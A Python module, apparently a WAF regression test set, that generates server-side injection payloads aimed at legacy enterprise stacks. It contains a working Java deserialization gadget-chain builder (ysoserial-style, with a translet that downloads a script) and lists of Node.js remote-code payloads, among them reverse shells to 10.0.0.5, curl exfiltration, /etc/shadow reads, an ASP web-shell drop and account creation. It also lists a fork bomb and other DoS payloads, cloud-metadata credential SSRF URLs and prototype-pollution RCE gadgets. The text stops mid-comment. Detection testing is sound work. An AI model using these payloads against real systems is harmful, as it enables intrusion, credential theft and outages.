"""Blind set "hundredninetyeighth": generic server-side injection (Node.js, SSRF, prototype pollution, Ruby, Perl,
PHP data: URIs, denial of service), Java and server-side template injection, aimed the way testers aim them at the
legacy and enterprise back ends still running behind modern edges, with benign requests that carry the same words
innocently.

The angle: legacy and enterprise platforms, recalled from memory. Every payload uses the syntax, parameter names
and quirks of a product that is still found in enterprise estates: classic ASP and ASP.NET WebForms (Razor on
DotNetNuke, Umbraco and Orchard), ColdFusion (cfhttp, createObject("java", ...), the CFIDE administrator), Perl CGI
(awstats, TWiki, Bugzilla-era open() pipes), Oracle PL/SQL gateways (UTL_HTTP), DB2, Informix and Sybase consoles
reached through SSRF, IBM WebSphere (snoop, the SOAP connector, IIOP), Lotus Domino (names.nsf), SAP NetWeaver and
Oracle E-Business Suite front ends, JBoss (jmx-console, JMXInvokerServlet, MainDeployer, Seam) and WebLogic
(wls-wsat XMLDecoder, the console's MVEL ShellSession), old PHP CMSs (Mambo, Joomla 1.x, CMS Made Simple, X-Cart
on Smarty), Struts 1 and 2 (OGNL in Content-Type, method:, redirect:, class.classLoader), Tomcat managers, AS/400
and mainframe web gateways, SOAP and XML-RPC services, Confluence, Jira, Solr, Liferay and Alfresco templates.
Each payload is still a working attack on the target its list's comment names (database, shell, browser,
interpreter, template engine or product).

Families (one sub-family per detection title):
  generic: nodejs-injection (child_process, require, process, Function/eval/vm), nodejs-dos (catastrophic regular
    expressions, huge allocations, endless loops), ssrf-cloud-metadata (AWS, GCP, Azure, Alibaba, DigitalOcean,
    Oracle Cloud, OpenStack, IPv6 forms), ssrf-internal-ip (decimal, octal, hex and short forms, localhost aliases,
    file://, gopher://, dict://, netdoc, jar), javascript-prototype-pollution (__proto__ and
    constructor.prototype in query and JSON), ruby-injection (eval, system, backticks, Kernel.open pipes, ERB,
    YAML.load), perl-injection (open pipes, system, eval, qx), php-data-scheme (data: URIs in include parameters)
  java: java-class-names, java-process-spawn, java-serialization (the ac ed 00 05 stream as raw bytes, hex,
    base64 rO0AB and gzip+base64), deserialization-gadgets (commons-collections 3 and 4, commons-beanutils, spring,
    groovy, jdk7u21, c3p0, rome, hibernate, URLDNS, JRMP), log4shell (${jndi:...} with nested and encoded
    lookups), expression-language (OGNL, SpEL, MVEL, JEXL, JSP and JSF EL), polymorphic-deserialization
    (XStream, XMLDecoder, Fastjson, Jackson, SnakeYAML), class-loading (URLClassLoader, defineClass, BCEL,
    class.classLoader binding), jsp-upload (JSP and JSPX web shells as uploads, WAR deployment requests)
  ssti: jinja2, twig, freemarker, velocity, thymeleaf, erb, smarty, handlebars, pug, mako, tornado, nunjucks, ejs,
    pebble, razor, go-templates, liquid

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path; JSP uploads as the file name of an admin import), once the way a WAF regression
suite sends it (placements prefixed "rs-"): to paths that are not our routes (/, /index.php, /get, /post, /search,
/api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names, as a query string, form body, JSON body, XML
body, a raw form-typed body, a multipart upload, or in User-Agent, Referer, a custom header or a cookie. Whole
documents (XMLDecoder and XStream XML, SOAP envelopes with an external entity, JSON documents for prototype
pollution and polymorphic typing) go as the whole body; Struts and Spring binding parameters
(`class.module.classLoader...=...`, `__proto__[x]=y`) go as raw `name=value` pairs; the Struts 2 OGNL payload of
S2-045 goes in Content-Type and Spring Cloud Function's routing expression in its own header; serialized Java
streams with raw bytes go percent-encoded into the query, a form body, a parameter name or a cookie.

Authorship and independence: written for this repository from general knowledge of each attack family, the
public advisories of the products named as remembered, and the detection titles alone; no WAF rule, engine
source, ruleset regression test or public payload list was read. Measured once on unchanged code; deterministic
(no clock, no randomness: the serialized Java streams and data: URIs are built in this module).
"""

from __future__ import annotations

import base64
import gzip
import struct
from collections.abc import Iterator, Sequence
from typing import Any, NamedTuple

from .blind_placements import BlindSet, Cycles
from .records import print_records

NAME = "hundredninetyeighth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")   # the payload is the whole JSON body
XB = ("xml", "rs-xml")               # the payload is the whole XML document
KV = ("form", "rs-query")            # a raw `name=value` binding parameter
PN = ("param-name", "rs-param-name")  # a raw query string whose parameter name carries the payload


def _b64(text: str | bytes) -> str:
    return base64.b64encode(text.encode() if isinstance(text, str) else text).decode()


# ----------------------------------------------------------------------------------------------------------------
# Java serialization: a small writer for the object streams the gadget chains are sent as (ObjectOutputStream's
# grammar: TC_OBJECT 0x73, TC_CLASSDESC 0x72, TC_STRING 0x74, TC_ARRAY 0x75, TC_CLASS 0x76, TC_NULL 0x70,
# TC_BLOCKDATA 0x77, TC_ENDBLOCKDATA 0x78), with the class names, serialVersionUIDs and field layouts of each
# chain as ysoserial writes them (superclass descriptors folded away).
Field = tuple[str, str, str]   # (type code, name, field type for object and array fields)


class Cls(NamedTuple):
    name: str
    suid: int = 0
    flags: int = 2   # SC_SERIALIZABLE; 3: the class writes extra data after its fields
    fields: tuple[Field, ...] = ()


class Obj(NamedTuple):
    cls: Cls
    values: tuple[Any, ...] = ()
    data: bytes = b""   # block data its writeObject adds


class Arr(NamedTuple):
    cls: Cls
    items: tuple[Any, ...] | bytes


class Klass(NamedTuple):   # a java.lang.Class value
    cls: Cls


def _utf(s: str) -> bytes:
    raw = s.encode()
    return len(raw).to_bytes(2, "big") + raw


def _desc(c: Cls) -> bytes:
    out = b"\x72" + _utf(c.name) + c.suid.to_bytes(8, "big", signed=True) + bytes([c.flags])
    out += len(c.fields).to_bytes(2, "big")
    for code, name, ftype in c.fields:
        out += code.encode() + _utf(name) + (b"\x74" + _utf(ftype) if code in "L[" else b"")
    return out + b"\x78\x70"


def _val(v: Any) -> bytes:
    if v is None:
        return b"\x70"
    if isinstance(v, bool):
        return b"\x01" if v else b"\x00"
    if isinstance(v, int):
        return v.to_bytes(4, "big", signed=True)
    if isinstance(v, float):
        return struct.pack(">f", v)
    if isinstance(v, str):
        return b"\x74" + _utf(v)
    if isinstance(v, Klass):
        return b"\x76" + _desc(v.cls)
    if isinstance(v, Arr):
        if isinstance(v.items, bytes):
            return b"\x75" + _desc(v.cls) + len(v.items).to_bytes(4, "big") + v.items
        return b"\x75" + _desc(v.cls) + len(v.items).to_bytes(4, "big") + b"".join(_val(x) for x in v.items)
    if isinstance(v, Obj):
        tail = (v.data + b"\x78") if v.cls.flags & 1 else b""
        return b"\x73" + _desc(v.cls) + b"".join(_val(x) for x in v.values) + tail
    raise TypeError(type(v))


def stream(obj: Any) -> bytes:
    """A serialized object stream: magic ac ed, version 00 05, the object."""
    return b"\xac\xed\x00\x05" + _val(obj)


def latin(raw: bytes) -> str:
    """Raw bytes held as latin-1 text (sent percent-encoded byte for byte)."""
    return raw.decode("latin-1")


CC = "org.apache.commons.collections."
CC4 = "org.apache.commons.collections4."
XALAN = "com.sun.org.apache.xalan.internal.xsltc.trax."
OBJ_ARR = Cls("[Ljava.lang.Object;", -8012369246846506644)
CLS_ARR = Cls("[Ljava.lang.Class;", -6118465897992725863)
STRING = Cls("java.lang.String", -6849794470754667710)
RUNTIME = Cls("java.lang.Runtime")
HASHMAP = Cls("java.util.HashMap", 362498820763181265, 3, (("F", "loadFactor", ""), ("I", "threshold", "")))
# a translet class (its static initialiser runs the command), as TemplatesImpl's _bytecodes carry it
TRANSLET = (b"\xca\xfe\xba\xbe\x00\x00\x00\x32\x00\x39\x0a\x00\x03\x00\x22\x07\x00\x37\x07\x00\x25"
            b"\x01\x00\x10java/lang/Object\x01\x00\x11java/lang/Runtime\x01\x00\x0agetRuntime"
            b"\x01\x00\x04exec\x01\x00\x27(Ljava/lang/String;)Ljava/lang/Process;"
            b"\x01\x00\x40com/sun/org/apache/xalan/internal/xsltc/runtime/AbstractTranslet"
            b"\x01\x00\x08<clinit>\x01\x00\x2acurl http://10.0.0.5:8000/x.sh -o /tmp/x.sh")


def templates(name: str = "Pwnr") -> Obj:
    return Obj(Cls(XALAN + "TemplatesImpl", 673094361519270707, 3,
                   (("I", "_indentNumber", ""), ("I", "_transletIndex", ""), ("[", "_bytecodes", "[[B"),
                    ("[", "_class", "[Ljava/lang/Class;"), ("L", "_name", "Ljava/lang/String;"),
                    ("L", "_outputProperties", "Ljava/util/Properties;"))),
               (0, -1, Arr(Cls("[[B", 5475472537458483524), (Arr(Cls("[B", -5984413125824719648), TRANSLET),)),
                None, name, None), b"\x77\x01\x00")


def invoker(method: str, types: tuple[str, ...], args: tuple[Any, ...], pkg: str = CC) -> Obj:
    return Obj(Cls(pkg + "functors.InvokerTransformer", -8653385846894047688, 2,
                   (("[", "iArgs", "[Ljava/lang/Object;"), ("L", "iMethodName", "Ljava/lang/String;"),
                    ("[", "iParamTypes", "[Ljava/lang/Class;"))),
               (Arr(OBJ_ARR, args), method, Arr(CLS_ARR, tuple(Klass(Cls(t)) for t in types))))


def exec_chain(cmd: str, pkg: str = CC) -> Obj:
    """ChainedTransformer: Runtime.class -> getMethod("getRuntime") -> invoke -> exec(cmd)."""
    return Obj(Cls(pkg + "functors.ChainedTransformer", 3514945074733160196, 2,
                   (("[", "iTransformers", f"[L{pkg.replace('.', '/')}Transformer;"),)),
               (Arr(Cls(f"[L{pkg}Transformer;", -4803604734341277543), (
                   Obj(Cls(pkg + "functors.ConstantTransformer", 6374440726369055124, 2,
                           (("L", "iConstant", "Ljava/lang/Object;"),)), (Klass(RUNTIME),)),
                   invoker("getMethod", ("java.lang.String", "[Ljava.lang.Class;"), ("getRuntime", Arr(CLS_ARR, ())),
                           pkg),
                   invoker("invoke", ("java.lang.Object", "[Ljava.lang.Object;"), (None, Arr(OBJ_ARR, ())), pkg),
                   invoker("exec", ("java.lang.String",), (cmd,), pkg))),))


def lazy_map(cmd: str) -> Obj:
    return Obj(Cls(CC + "map.LazyMap", 7990956402564206740, 3, (("L", "factory", f"L{CC.replace('.', '/')}"
                                                                     "Transformer;"),)),
               (exec_chain(cmd),), _val(Obj(HASHMAP, (0.75, 12), b"\x77\x08\x00\x00\x00\x10\x00\x00\x00\x00")))


def cc5(cmd: str) -> bytes:
    """CommonsCollections5: BadAttributeValueExpException.readObject -> TiedMapEntry.toString -> LazyMap.get."""
    entry = Obj(Cls(CC + "keyvalue.TiedMapEntry", -8453869361373831205, 2,
                    (("L", "key", "Ljava/lang/Object;"), ("L", "map", "Ljava/util/Map;"))), ("foo", lazy_map(cmd)))
    return stream(Obj(Cls("javax.management.BadAttributeValueExpException", -3105272988410493376, 2,
                          (("L", "val", "Ljava/lang/Object;"),)), (entry,)))


def cc6(cmd: str) -> bytes:
    """CommonsCollections6: HashSet.readObject -> HashMap.put -> TiedMapEntry.hashCode -> LazyMap.get."""
    entry = Obj(Cls(CC + "keyvalue.TiedMapEntry", -8453869361373831205, 2,
                    (("L", "key", "Ljava/lang/Object;"), ("L", "map", "Ljava/util/Map;"))), ("foo", lazy_map(cmd)))
    return stream(Obj(Cls("java.util.HashSet", -5024744406713321676, 3), (),
                      b"\x77\x0c\x00\x00\x00\x02\x3f\x40\x00\x00\x00\x00\x00\x01" + _val(entry)))


def priority_queue(comparator: Obj, first: Any) -> bytes:
    return stream(Obj(Cls("java.util.PriorityQueue", -7720805057305804111, 3,
                          (("I", "size", ""), ("L", "comparator", "Ljava/util/Comparator;"))), (2, comparator),
                      b"\x77\x04\x00\x00\x00\x03" + _val(first) + _val(1)))


def cc2() -> bytes:
    """CommonsCollections2: PriorityQueue -> TransformingComparator -> InvokerTransformer.newTransformer."""
    cmp = Obj(Cls(CC4 + "comparators.TransformingComparator", 1, 2,
                  (("L", "decorated", "Ljava/util/Comparator;"), ("L", "transformer",
                                                                 f"L{CC4.replace('.', '/')}Transformer;"))),
              (Obj(Cls(CC4 + "comparators.ComparableComparator", -291439688585137865)),
               invoker("newTransformer", (), (), CC4)))
    return priority_queue(cmp, templates())


def cc4(cmd: str) -> bytes:
    """CommonsCollections4 with a ChainedTransformer in the comparator (collections4 4.0)."""
    cmp = Obj(Cls(CC4 + "comparators.TransformingComparator", 1, 2,
                  (("L", "decorated", "Ljava/util/Comparator;"), ("L", "transformer",
                                                                 f"L{CC4.replace('.', '/')}Transformer;"))),
              (Obj(Cls(CC4 + "comparators.ComparableComparator", -291439688585137865)), exec_chain(cmd, CC4)))
    return priority_queue(cmp, 1)


def beanutils() -> bytes:
    """CommonsBeanutils1: PriorityQueue -> BeanComparator("outputProperties") -> TemplatesImpl."""
    cmp = Obj(Cls("org.apache.commons.beanutils.BeanComparator", -2044202215314119608, 2,
                  (("L", "comparator", "Ljava/util/Comparator;"), ("L", "property", "Ljava/lang/String;"))),
              (Obj(Cls("java.lang.String$CaseInsensitiveComparator", 8575799808933029326)), "outputProperties"))
    return priority_queue(cmp, templates())


def handler(kind: str, members: Any) -> Obj:
    return Obj(Cls("sun.reflect.annotation.AnnotationInvocationHandler", 6182022883658399397, 2,
                   (("L", "memberValues", "Ljava/util/Map;"), ("L", "type", "Ljava/lang/Class;"))),
               (members, Klass(Cls(kind))))


def groovy1(cmd: str) -> bytes:
    """Groovy1: AnnotationInvocationHandler -> ConvertedClosure("entrySet") -> MethodClosure(cmd, "execute")."""
    closure = Obj(Cls("org.codehaus.groovy.runtime.ConvertedClosure", -2532430962581024034, 2,
                      (("L", "methodName", "Ljava/lang/String;"), ("L", "delegate", "Ljava/lang/Object;"))),
                  ("entrySet", Obj(Cls("org.codehaus.groovy.runtime.MethodClosure", 1222573155453700185, 2,
                                       (("L", "method", "Ljava/lang/String;"), ("L", "delegate",
                                                                                "Ljava/lang/Object;"))),
                                   ("execute", cmd))))
    return stream(handler("java.lang.Override", closure))


def jdk7u21() -> bytes:
    """Jdk7u21: LinkedHashSet(TemplatesImpl, Proxy) with a HashMap keyed "f5a5a608" (hash zero)."""
    members = Obj(HASHMAP, (0.75, 12), b"\x77\x08\x00\x00\x00\x10\x00\x00\x00\x01" + _val("f5a5a608")
                  + _val(templates()))
    return stream(Obj(Cls("java.util.LinkedHashSet", -2851667679971038690, 3), (),
                      b"\x77\x0c\x00\x00\x00\x10\x3f\x40\x00\x00\x00\x00\x00\x02" + _val(templates())
                      + _val(handler("javax.xml.transform.Templates", members))))


def spring1() -> bytes:
    """Spring1: MethodInvokeTypeProvider("newTransformer") over ObjectFactoryDelegatingInvocationHandler."""
    factory = Obj(Cls("org.springframework.beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvocation"
                      "Handler", 1, 2, (("L", "objectFactory", "Lorg/springframework/beans/factory/ObjectFactory;"),)),
                  (handler("org.springframework.beans.factory.ObjectFactory", templates()),))
    return stream(Obj(Cls("org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider", 1, 2,
                          (("I", "index", ""), ("L", "methodName", "Ljava/lang/String;"),
                           ("L", "provider", "Lorg/springframework/core/SerializableTypeWrapper$TypeProvider;"))),
                      (0, "newTransformer", factory)))


def c3p0(base: str, klass: str) -> bytes:
    """C3P0: PoolBackedDataSource -> ReferenceSerialized -> a remote factory class loaded from `base`."""
    ref = Obj(Cls("javax.naming.Reference", -1673475790065791735, 2,
                  (("L", "addrs", "Ljava/util/Vector;"), ("L", "classFactory", "Ljava/lang/String;"),
                   ("L", "classFactoryLocation", "Ljava/lang/String;"), ("L", "className", "Ljava/lang/String;"))),
              (None, klass, base, klass))
    ser = Obj(Cls("com.mchange.v2.naming.ReferenceIndirector$ReferenceSerialized", -6523458289454614036, 2,
                  (("L", "contextName", "Ljavax/naming/Name;"), ("L", "env", "Ljava/util/Hashtable;"),
                   ("L", "name", "Ljavax/naming/Name;"), ("L", "reference", "Ljavax/naming/Reference;"))),
              (None, None, None, ref))
    return stream(Obj(Cls("com.mchange.v2.c3p0.PoolBackedDataSource", -2440162180985815128, 3), (),
                      b"\x77\x02\x00\x01" + _val(ser)))


def rome() -> bytes:
    """ROME: HashMap key ObjectBean -> EqualsBean/ToStringBean(Templates) -> getOutputProperties."""
    tsb = Obj(Cls("com.sun.syndication.feed.impl.ToStringBean", -5850496803426496898, 2,
                  (("L", "_beanClass", "Ljava/lang/Class;"), ("L", "_obj", "Ljava/lang/Object;"))),
              (Klass(Cls("javax.xml.transform.Templates")), templates()))
    bean = Obj(Cls("com.sun.syndication.feed.impl.ObjectBean", -4432580052508089011, 2,
                   (("L", "_equalsBean", "Lcom/sun/syndication/feed/impl/EqualsBean;"),
                    ("L", "_toStringBean", "Lcom/sun/syndication/feed/impl/ToStringBean;"))),
               (Obj(Cls("com.sun.syndication.feed.impl.EqualsBean", 9120107899712821313, 2,
                        (("L", "_beanClass", "Ljava/lang/Class;"), ("L", "_obj", "Ljava/lang/Object;"))),
                    (Klass(Cls("com.sun.syndication.feed.impl.ToStringBean")), tsb)), tsb))
    return stream(Obj(HASHMAP, (0.75, 12), b"\x77\x08\x00\x00\x00\x10\x00\x00\x00\x01" + _val(bean) + _val("x")))


def hibernate1() -> bytes:
    """Hibernate1: HashMap key TypedValue -> ComponentType -> BasicGetter("outputProperties") on TemplatesImpl."""
    getter = Obj(Cls("org.hibernate.property.BasicPropertyAccessor$BasicGetter", 1, 2,
                     (("L", "clazz", "Ljava/lang/Class;"), ("L", "propertyName", "Ljava/lang/String;"))),
                 (Klass(Cls(XALAN + "TemplatesImpl")), "outputProperties"))
    ctype = Obj(Cls("org.hibernate.type.ComponentType", 1, 2,
                    (("I", "propertySpan", ""), ("[", "getters", "[Lorg/hibernate/property/Getter;"))),
                (1, Arr(Cls("[Lorg.hibernate.property.Getter;", 1), (getter,))))
    typed = Obj(Cls("org.hibernate.engine.spi.TypedValue", -8209117513686612934, 2,
                    (("L", "type", "Lorg/hibernate/type/Type;"), ("L", "value", "Ljava/lang/Object;"))),
                (ctype, templates()))
    return stream(Obj(HASHMAP, (0.75, 12), b"\x77\x08\x00\x00\x00\x10\x00\x00\x00\x01" + _val(typed) + _val("x")))


def urldns(host: str) -> bytes:
    """URLDNS: HashMap key java.net.URL, hashCode() resolves the host (the detection probe)."""
    url = Obj(Cls("java.net.URL", -7627629688361524110, 3,
                  (("I", "hashCode", ""), ("I", "port", ""), ("L", "authority", "Ljava/lang/String;"),
                   ("L", "file", "Ljava/lang/String;"), ("L", "host", "Ljava/lang/String;"),
                   ("L", "protocol", "Ljava/lang/String;"), ("L", "ref", "Ljava/lang/String;"))),
              (-1, -1, host, "", host, "http", None))
    return stream(Obj(HASHMAP, (0.75, 12), b"\x77\x08\x00\x00\x00\x10\x00\x00\x00\x01" + _val(url)
                      + _val("http://" + host)))


def jrmp(host: str, port: int) -> bytes:
    """JRMPClient: a RemoteObjectInvocationHandler whose UnicastRef dials the attacker's JRMP listener."""
    ref = _utf("UnicastRef") + _utf(host) + port.to_bytes(4, "big") + b"\x00" * 15
    return stream(Obj(Cls("java.rmi.server.RemoteObjectInvocationHandler", 2, 3), (),
                      b"\x77" + bytes([len(ref)]) + ref))


# ================================================================================================================
# generic
# ----------------------------------------------------------------------------------------------------------------
# nodejs-injection: the Node.js interpreter behind a legacy front end (an Express BFF in front of SAP OData, an
# iisnode app on IIS next to classic ASP, a Node gateway to an AS/400 web service), reached through eval, vm,
# Function, node-serialize or a string concatenated into code
NODE_INJECTION: list[Entry] = [
    # Express BFF for SAP Gateway: the filter expression is eval'd; read the RFC destinations and the env
    "require('child_process').execSync('cat /usr/sap/trans/bin/TPPARAM').toString()",
    "process.mainModule.require('child_process').execSync('id').toString()",
    "global.process.mainModule.constructor._load('child_process').exec('nc -e /bin/sh 10.0.0.5 4444')",
    "res.end(JSON.stringify(process.env))",
    "';require('child_process').exec('curl http://10.0.0.5/sap?h='+require('os').hostname());//",
    # iisnode on Windows Server next to the classic ASP site: cmd.exe through child_process
    "require('child_process').spawn('cmd.exe',['/c','net user svc_iis P@ssw0rd1 /add'])",
    "require('child_process').execSync('type C:\\\\inetpub\\\\wwwroot\\\\web.config').toString()",
    "'+require('child_process').execSync('whoami /priv')+'",
    # vm sandbox escape (the "safe" expression evaluator of an old Node reporting portal)
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
    "require('vm').runInNewContext('this.constructor.constructor(\"return process\")().exit()')",
    "[].constructor.constructor('return this.process.mainModule.require(\"child_process\").execSync(\"ls /\")')()",
    "Reflect.construct(Function,['return process'])().mainModule.require('child_process').execSync('uname -a')",
    # node-serialize cookie of an old Node intranet (IIFE in the serialized function)
    "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('ls /QSYS.LIB',function(e,o){})}()\"}",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id | nc 10.0.0.5 4444')}()",
    # Node gateway to the AS/400 web service: the filename is read with fs, the code with eval
    "require('fs').readFileSync('/QOpenSys/etc/passwd','utf8')",
    "eval(\"require('fs').readFileSync('/etc/shadow','utf8')\")",
    "require('fs').writeFileSync('/var/www/html/cmd.asp','<%eval request(\"c\")%>')",
    "module.constructor._load('child_process').execFileSync('/usr/bin/id').toString()",
    "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],stdio:[{type:'pipe',readable:1}]})",
    "import('child_process').then(m=>m.execSync('curl -d @/etc/passwd http://10.0.0.5/'))",
    "new Function('return process.mainModule.require(\"child_process\").execSync(\"env\").toString()')()",
    "require('child_process').fork('/tmp/upload/agent.js')",
]

# nodejs-dos: the same Node.js interpreter taken down (one event loop, one thread): catastrophic backtracking in a
# regular expression the app builds from input, allocations that exhaust the heap, loops that never yield
NODE_DOS: list[Entry] = [
    # the search box of an old Node reporting portal feeds new RegExp(q): nested quantifiers backtrack forever
    "(a+)+$",
    "^(([a-z])+.)+[A-Z]([a-z])+$",
    "(x+x+)+y",
    "^(\\w+\\s?)*$",
    "(.*a){25}",
    "/(a|aa)+$/.test('a'.repeat(50000)+'!')",
    # eval'd expressions: an endless loop or a blocked event loop
    "while(true){}",
    "for(;;){}",
    "(function f(){while(1){Math.random()}})()",
    "Promise.resolve().then(function loop(){return Promise.resolve().then(loop)})",
    "process.stdin.resume();while(1){}",
    # heap and buffer exhaustion
    "Buffer.alloc(2**31-1)",
    "new Array(2**32-1).fill('A')",
    "'A'.repeat(2**29)",
    "Array(1e9).join('x')",
    "new Uint8Array(2**31)",
    "JSON.parse('['.repeat(1e7))",
    "require('crypto').pbkdf2Sync('x','y',1e10,64,'sha512')",
    "require('child_process').execSync(':(){ :|:& };:')",
    "process.kill(process.pid,'SIGKILL')",
]

# ssrf-cloud-metadata: the instance metadata services, reached through the URL fetchers of enterprise back ends
# (ColdFusion cfhttp, Oracle UTL_HTTP, a SOAP service's WS-Addressing ReplyTo, an XML-RPC pingback, an XXE in a
# SOAP envelope) that now run on cloud VMs after a lift-and-shift
CLOUD_METADATA: list[Entry] = [
    # AWS EC2 (IMDSv1), the role credentials and user data
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://169.254.169.254/latest/meta-data/identity-credentials/ec2/security-credentials/ec2-instance",
    "http://instance-data/latest/meta-data/iam/info",
    "http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "http://[::ffff:a9fe:a9fe]/latest/dynamic/instance-identity/document",
    "http://2852039166/latest/meta-data/iam/security-credentials/",
    "http://0xA9FEA9FE/latest/meta-data/public-keys/0/openssh-key",
    "http://0251.0376.0251.0376/latest/meta-data/",
    # GCP (the v1beta1 path took no Metadata-Flavor header)
    "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token",
    "http://metadata/computeMetadata/v1beta1/project/attributes/ssh-keys?alt=json",
    "http://metadata.google.internal./computeMetadata/v1/instance/attributes/?recursive=true",
    # Azure IMDS, the managed identity token, and the WireServer
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://168.63.129.16/machine?comp=goalstate",
    # Alibaba Cloud, DigitalOcean, Oracle Cloud (E-Business Suite on OCI), OpenStack, Tencent
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/metadata/v1/user-data",
    "http://169.254.169.254/opc/v1/instance/metadata/",
    "http://169.254.169.254/openstack/latest/meta_data.json",
    "http://metadata.tencentyun.com/latest/meta-data/cam/security-credentials/",
    # ColdFusion (CFML evaluated by the legacy report builder): cfhttp to the metadata service
    "<cfhttp url=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\" method=\"get\" result=\"r\">",
    # Oracle PL/SQL gateway: UTL_HTTP from the database host to the metadata service
    "' || UTL_HTTP.REQUEST('http://169.254.169.254/latest/meta-data/iam/security-credentials/') || '",
    # SOAP service on the VM: an external entity in the envelope pulls the role credentials into the fault
    ("<?xml version=\"1.0\"?><!DOCTYPE soapenv:Envelope [<!ENTITY c SYSTEM "
     "\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]><soapenv:Envelope "
     "xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Body><getQuote><symbol>&c;</symbol>"
     "</getQuote></soapenv:Body></soapenv:Envelope>", *XB),
]

# ssrf-internal-ip: the admin consoles and daemons on the loopback and the private network of the same estate
# (JBoss jmx-console, WebLogic console, Tomcat manager, WebSphere admin console and snoop, ColdFusion administrator,
# Domino names.nsf, SAP ICM, GlassFish admin, Redis/memcached/SMTP through gopher and dict), and local files
# through file:, netdoc: and jar:
INTERNAL_IP: list[Entry] = [
    "http://127.0.0.1:8080/jmx-console/HtmlAdaptor?action=inspectMBean&name=jboss.system:type=ServerInfo",
    "http://2130706433:7001/console/login/LoginForm.jsp",
    "http://0x7f000001:8080/manager/html",
    "http://0177.0.0.1/names.nsf?OpenDatabase",
    "http://127.1:8000/sap/bc/gui/sap/its/webgui",
    "http://0:9060/ibm/console/logon.jsp",
    "http://localhost.localdomain:9080/snoop",
    "http://[::1]:8500/CFIDE/administrator/index.cfm",
    "http://[0:0:0:0:0:ffff:127.0.0.1]:7001/wls-wsat/CoordinatorPortType",
    "http://127.0.0.1:4848/management/domain/applications/application",
    "http://10.0.0.12:8088/soap/servlet/rpcrouter",
    "http://192.168.1.20:50000/sap/public/info",
    "http://172.16.4.10/webacc?User-GetContext",
    "http://ops@127.0.0.1:8080/manager/text/list",
    "http://localtest.me:8080/host-manager/html",
    "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460:8080/jmx-console/",
    "file:///etc/passwd",
    "file:///C:/ColdFusion10/cfusion/lib/password.properties",
    "file:///opt/IBM/WebSphere/AppServer/profiles/AppSrv01/properties/soap.client.props",
    "file:///u01/app/oracle/product/11.2.0/dbhome_1/network/admin/tnsnames.ora",
    "netdoc:///etc/passwd",
    "jar:http://127.0.0.1:8080/manager/status!/",
    "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/www/html%0D%0ASAVE%0D%0A",
    "gopher://127.0.0.1:11211/_stats%0D%0A",
    "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM:<a@corp.example>%0D%0ARCPT%20TO:<ceo@corp.example>%0D%0A",
    "dict://127.0.0.1:6379/info",
    "dict://127.0.0.1:11211/stats",
]

# javascript-prototype-pollution: Object.prototype of the Node.js interpreter behind an old admin portal (qs and
# body-parser in Express, lodash merge/defaultsDeep, jQuery $.extend(true, ...) and deparam in the browser), and the
# template-engine gadgets (EJS, Pug, Handlebars) and child_process options that turn it into code execution
PROTO: list[Entry] = [
    ("__proto__[isAdmin]=true", *KV),
    ("__proto__.role=administrator", *KV),
    ("constructor[prototype][isAdmin]=true", *KV),
    ("constructor.prototype.authorized=1", *KV),
    ("__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');x", *KV),
    ("constructor[prototype][sourceURL]=\nreturn process.mainModule.require('child_process').execSync('id')//", *KV),
    ("__proto__[allowedTags]=img&__proto__[allowedAttributes][img][0]=onerror", *KV),
    ("__proto__[src]=data:,alert(document.domain)//", *KV),
    ("{\"__proto__\":{\"isAdmin\":true}}", *JB),
    ("{\"constructor\":{\"prototype\":{\"isAdmin\":true}}}", *JB),
    ("{\"__proto__\":{\"outputFunctionName\":\"_tmp1;global.process.mainModule.require('child_process')"
     ".execSync('nc 10.0.0.5 4444 -e /bin/sh');var __tmp2\"}}", *JB),
    ("{\"__proto__\":{\"block\":{\"type\":\"Text\",\"line\":\"process.mainModule.require('child_process')"
     ".execSync('id')\"}}}", *JB),
    ("{\"__proto__\":{\"pendingContent\":\"<script>alert(document.cookie)</script>\"}}", *JB),
    ("{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(require('child_process')"
     ".execSync('id').toString())//\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}", *JB),
    ("{\"__proto__\":{\"env\":{\"EVIL\":\"require('child_process').execSync('touch /tmp/pp')//\"},"
     "\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}", *JB),
    ("{\"__proto__\":{\"json spaces\":10}}", *JB),
    ("{\"__proto__\":{\"exposedHeaders\":[\"X-Pollution\"]}}", *JB),
    ("{\"__proto__\":{\"status\":510}}", *JB),
    ("{\"a\":{\"constructor\":{\"prototype\":{\"polluted\":\"yes\"}}}}", *JB),
    ("{\"__proto__\":{\"toString\":\"crash\",\"valueOf\":\"crash\"}}", *JB),
    ("{\"__proto__\":{\"escapeFunction\":\"1;return process.mainModule.require('child_process')"
     ".execSync('id')\",\"client\":true}}", *JB),
]

# ruby-injection: the Ruby interpreter of Rails 2/3-era apps still in service (Redmine, an old Rails intranet,
# Ruby CGI scripts): eval of a parameter, Kernel#open on a name starting with a pipe, backticks, ERB rendered from
